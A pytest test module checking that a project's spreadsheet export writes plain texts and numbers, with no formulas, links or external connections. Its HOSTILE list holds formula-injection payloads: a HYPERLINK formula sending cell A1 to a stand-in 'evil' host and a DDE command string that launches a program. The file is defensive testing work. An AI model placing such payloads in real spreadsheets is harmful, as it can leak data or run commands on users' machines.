"""A workbook of ours holds texts and numbers and nothing that is computed, and reads back as what was written."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flashmeet.core.spreadsheets.guards import plain
from flashmeet.core.spreadsheets.reader import open_table
from flashmeet.core.spreadsheets.writer import csv_text, xlsx_bytes
from tests.core.test_spreadsheets import begins_with, is_phone, phones, rows, texts

HOSTILE: tuple[str, ...] = (
    "=1+1",
    '=HYPERLINK("http://evil/?"&A1;"x")',
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "{=1+1}",
    "=cmd|'/c calc'!A1",
)
HOSTILE += ("http://example.org", "mailto:a@example.org", "007", "1e5", "12/06/2012", "_x0041_", "+33612345678")


def without_what_a_line_cannot_hold(text: str) -> str:
    """XML has no control characters; a member's line has none either (`people.rules.facts.tidy_line`)."""
    return "".join(char for char in text if char.isprintable() or char in "\u00a0\u200b").strip()


@settings(max_examples=25, deadline=None)
@given(
    st.lists(
        st.lists(st.one_of(texts.map(without_what_a_line_cannot_hold), phones), min_size=2, max_size=4).map(
            lambda cells: ["x", *cells]
        ),
        min_size=1,
        max_size=3,
    )
)
def test_what_was_written_reads_back_unchanged(table: list[list[str]]) -> None:
    read = [cells for _, cells in open_table(xlsx_bytes(table, name="Members")).rows]
    assert [trimmed(row) for row in read] == [trimmed(row) for row in table]


def trimmed(row: list[str]) -> list[str]:
    """The row without the empty cells at its end, which a sheet does not keep."""
    while row and not row[-1]:
        row = row[:-1]
    return row


@given(rows)
def test_no_cell_is_a_formula_a_link_or_anything_that_begins_as_one(table: list[list[str]]) -> None:
    book = zipfile.ZipFile(io.BytesIO(xlsx_bytes(table, name="Members")))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert not any(part in sheet for part in ("<f>", "<f ", "<hyperlink"))
    assert not any("externalLink" in name or "connections" in name for name in book.namelist())


def test_texts_stay_texts_and_whole_numbers_are_numbers() -> None:
    table: list[list[object]] = [["Key", "Phone", "Year"], ["007", "+33612345678", 2012]]
    sheet = zipfile.ZipFile(io.BytesIO(xlsx_bytes(table, name="Members"))).read("xl/worksheets/sheet1.xml").decode()
    assert "<t>007</t>" in sheet and "<t>+33612345678</t>" in sheet and "<v>2012</v>" in sheet
    assert [cells for _, cells in open_table(xlsx_bytes(table, name="Members")).rows][1] == [
        "007",
        "+33612345678",
        "2012",
    ]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed: its judgement is missing")
@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_libreoffice_computes_no_cell_and_shows_each_as_it_was_written(tmp_path: Path, ending: str) -> None:
    """Its own conversion to CSV writes what it shows, and formulas as formulas (`-infilter` and option 9)."""
    table = [["first", "text", "last"], *(["x", text, text] for text in HOSTILE)]
    file = tmp_path / f"ours.{ending}"
    file.write_bytes(xlsx_bytes(table, name="Members") if ending == "xlsx" else csv_text(table).encode("utf-8-sig"))
    formulas = "44,34,76,1,,0,false,true,true,false,false,-1"
    command = ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to"]
    wanted = [f"csv:Text - txt - csv (StarCalc):{formulas}", "--outdir", str(tmp_path / "out"), str(file)]
    read_as_people_do = ["--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true"] if ending == "csv" else []
    subprocess.run([*command, *wanted, *read_as_people_do], check=True, capture_output=True, timeout=120)
    (made,) = (tmp_path / "out").glob("*.csv")
    shown = [row[1] for row in csv.reader(io.StringIO(made.read_text("utf-8-sig"), newline=""))][1:]
    assert [cell for cell in shown if begins_with(cell) in set("=@") and not is_phone(cell)] == []
    if ending == "xlsx":
        assert [plain(cell).strip() for cell in shown] == [text.strip() for text in HOSTILE]
